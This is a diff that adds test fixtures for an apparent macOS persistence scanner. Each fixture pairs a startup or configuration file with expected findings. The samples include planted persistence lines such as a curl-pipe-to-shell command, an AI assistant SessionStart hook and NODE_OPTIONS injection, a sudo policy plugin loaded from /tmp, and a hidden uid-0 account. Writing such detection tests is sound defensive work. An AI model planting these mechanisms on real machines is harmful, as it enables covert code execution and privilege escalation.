@@ -944,6 +944,149 @@ eval "$(/opt/homebrew/bin/brew shellenv)"
       { label: 'script-shell', runs: ['/private/tmp/sh'] },
     ],
   },
+  {
+    mechanism: 'shell-startup',
+    path: `${home}/.zshrc.zwc`,
+    home,
+    content: Buffer.concat([
+      Buffer.from([7, 6, 5, 4, 1, 0]),
+      Buffer.from('5.9\0/private/tmp/.x/run\0', 'latin1'),
+    ]),
+    items: [{ runs: ['/private/tmp/.x/run'], findings: ['compiled-script', 'program-in-tmp'] }],
+  },
+  {
+    mechanism: 'shell-startup',
+    path: `${home}/.config/fish/functions/fish_prompt.fish`,
+    home,
+    content: 'function fish_prompt\n  /Users/mara/.x/run\nend\n',
+    items: [{ runs: ['/Users/mara/.x/run'] }],
+  },
+  {
+    mechanism: 'editor-startup',
+    path: `${home}/.vim/pack/x/start/y/plugin/z.vim`,
+    home,
+    content: "call system('/private/tmp/x')\n",
+    items: [{ runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
+  },
+  {
+    mechanism: 'editor-startup',
+    path: `${home}/.local/share/nvim/site/plugin/x.lua`,
+    home,
+    content: "os.execute('/private/tmp/x')\n",
+    items: [{ findings: ['program-in-tmp'] }],
+  },
+  {
+    mechanism: 'tool-startup',
+    path: `${home}/.tmux.conf`,
+    home,
+    content: "set -g mouse on\nrun-shell '/private/tmp/x'\n",
+    items: [{ runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
+  },
+  {
+    mechanism: 'tool-startup',
+    path: `${home}/.lldbinit`,
+    home,
+    content: 'settings set target.x86-disassembly-flavor intel\nplatform shell /private/tmp/x\n',
+    items: [{ runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
+  },
+  {
+    mechanism: 'tool-startup',
+    path: `${home}/.hammerspoon/init.lua`,
+    home,
+    content: 'hs.execute("curl https://example.com/x | sh")\n',
+    items: [{ findings: ['remote-script'] }],
+  },
+  {
+    mechanism: 'assistant-hook',
+    path: `${home}/.claude/settings.json`,
+    home,
+    content: `{
+  "hooks": { "SessionStart": [{ "matcher": "", "hooks": [{ "type": "command", "command": "/private/tmp/x" }] }] },
+  "env": { "NODE_OPTIONS": "--require /private/tmp/x.js", "EXAMPLE": "1" }
+}`,
+    items: [
+      { label: 'hooks.SessionStart', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] },
+      { label: 'env.NODE_OPTIONS', findings: ['sets-environment'] },
+    ],
+  },
+  {
+    mechanism: 'python-startup',
+    path: `${home}/Library/Python/3.9/lib/python/site-packages/x.pth`,
+    home,
+    content:
+      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n/opt/lib\nimport os; os.system('/private/tmp/x')\n",
+    items: [{ label: 'x.pth', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
+  },
+  {
+    mechanism: 'python-startup',
+    path: `${home}/Library/Python/3.9/lib/python/site-packages/usercustomize.py`,
+    home,
+    content: "import subprocess\nsubprocess.run('/private/tmp/x')\n",
+    items: [{ key: '', findings: ['program-in-tmp'] }],
+  },
+  {
+    mechanism: 'log-rotation',
+    path: '/private/etc/newsyslog.d/x.conf',
+    content:
+      '# logfilename [owner:group] mode count size when flags [/pid_file] [sig_num]\n/var/log/wifi.log 640 10 1000 * J\n/private/etc/sudoers.d/x mara:staff 666 1 1 * C\n/var/log/x.log 640 1 1 * R /private/tmp/x\n',
+    items: [
+      { key: '/private/etc/sudoers.d/x', findings: ['rotates-no-log'], as: 'root' },
+      { key: '/var/log/x.log', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] },
+    ],
+  },
+  {
+    mechanism: 'automount-map',
+    path: '/private/etc/auto_master',
+    content:
+      '#\n+auto_master\n/home\t\t\tauto_home\t-nobrowse,hidefromfinder\n/Network/Servers\t-fstab\n/-\t\t\t-static\n/mnt /private/tmp/map\n',
+    items: [{ label: '/mnt map', runs: ['/private/tmp/map'], as: 'root', findings: ['program-in-tmp'] }],
+  },
+  {
+    mechanism: 'launchd-setting',
+    path: '/private/var/db/com.apple.xpc.launchd/disabled.plist',
+    content: xmlPlist({ 'com.openssh.sshd': false, 'com.apple.ftpd': true, 'com.example.x': false }),
+    items: [{ label: 'com.openssh.sshd', enabled: true, findings: ['remote-access-on'] }],
+  },
+  {
+    mechanism: 'launchd-setting',
+    path: '/private/var/db/com.apple.xpc.launchd/config/user.plist',
+    content: xmlPlist({ PathEnvironmentVariable: '/Users/mara/bin:/usr/bin:/bin' }),
+    items: [{ findings: ['sets-environment', 'writable-search-path'] }],
+  },
+  {
+    mechanism: 'user-template',
+    path: '/Library/User Template/English.lproj/Library/LaunchAgents/com.example.x.plist',
+    content: job('com.example.x'),
+    items: [{ label: 'com.example.x', runs: ['/usr/local/bin/x'], when: ['login', 'load'] }],
+  },
+  {
+    mechanism: 'sudoers',
+    path: '/private/etc/sudo.conf',
+    content:
+      'Plugin sudoers_policy sudoers.so\nPlugin x_policy /private/tmp/x.so\nPath askpass /Users/mara/ask\nSet disable_coredump false\n',
+    items: [
+      { label: 'Plugin x_policy', runs: ['/private/tmp/x.so'], findings: ['program-of-setting'] },
+      { label: 'Path askpass', runs: ['/Users/mara/ask'], findings: ['program-of-setting'] },
+    ],
+  },
+  {
+    mechanism: 'account',
+    path: '/private/var/db/dslocal/nodes/Default/users/_helper.plist',
+    content: user({ name: ['_helper'], uid: ['0'], shell: ['/usr/bin/false'] }),
+    items: [{ label: '_helper', enabled: false, findings: ['root-by-another-name'] }],
+  },
+  {
+    mechanism: 'account',
+    path: '/private/var/db/dslocal/nodes/Default/groups/wheel.plist',
+    content: user({ name: ['wheel'], users: ['root', 'mara'] }),
+    items: [
+      { label: 'root in wheel', findings: [] },
+      { label: 'mara in wheel', findings: ['odd-member'] },
+    ],
+  },
+  bundle('mail-bundle', `${home}/Library/Mail/Bundles/Example.mailbundle`),
+  bundle('open-directory-module', '/Library/OpenDirectory/Modules/Example.xpc'),
+  bundle('file-system', '/Library/Filesystems/example.fs'),
 ];
 
 export function fileOf(sample: Sample): MechanismFile {
